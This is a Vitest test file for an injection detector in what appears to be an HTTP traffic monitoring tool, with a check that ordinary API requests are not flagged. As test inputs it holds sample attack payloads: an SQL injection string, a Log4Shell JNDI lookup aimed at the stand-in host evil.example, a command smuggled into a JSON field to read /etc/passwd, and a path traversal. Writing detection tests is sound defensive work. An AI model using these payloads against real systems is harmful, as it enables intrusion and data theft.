import { describe, expect, it } from 'vitest';
import { makeEvent } from '../make-event.fixture.js';
import { runDetector } from '../run-detector.fixture.js';
import { injection } from './injection.js';

describe('injection', () => {
  it.each([
    ['SQL in the query string', { rawPath: "/products?q=1'%20OR%20'1'%3D'1", path: '/products' }, 'sqli'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal attack payload, not a template
    ['Log4Shell in a header', { requestHeaders: { 'user-agent': '${jndi:ldap://evil.example/a}' } }, 'jndi'],
    [
      'command injection in a JSON body',
      {
        method: 'POST',
        path: '/reports',
        requestBody: {
          contentType: 'application/json',
          text: '{"name":"q1; cat /etc/passwd"}',
          truncated: false,
          size: 30,
        },
      },
      'command',
    ],
    [
      'path traversal in the path',
      { rawPath: '/files/..%2f..%2f..%2fetc%2fpasswd', path: '/files/x' },
      'path-traversal',
    ],
  ])('fires on %s', (_, overrides, expected) => {
    const signals = runDetector(injection, [makeEvent(overrides)]);
    expect(signals.map((s) => s.details?.['class'])).toContain(expected);
    const signal = signals.find((s) => s.details?.['class'] === expected)!;
    expect(signal.targetClass).toBe(`injection:${expected}`);
  });

  it('stays quiet on ordinary API traffic', () => {
    const events = [
      makeEvent({ rawPath: '/products?q=red%20shoes&page=2&sort=price', path: '/products' }),
      makeEvent({
        method: 'POST',
        path: '/transfers',
        requestBody: {
          contentType: 'application/json',
          text: '{"from":"ACC-1001","to":"ACC-2002","amount":125.5,"memo":"Rent for March (flat 3)"}',
          truncated: false,
          size: 80,
        },
        requestHeaders: {
          'user-agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
          authorization: 'Bearer [redacted]',
        },
      }),
      makeEvent({ path: '/users/ann.lee@example.com/orders' }),
    ];
    expect(runDetector(injection, events)).toEqual([]);
  });
});
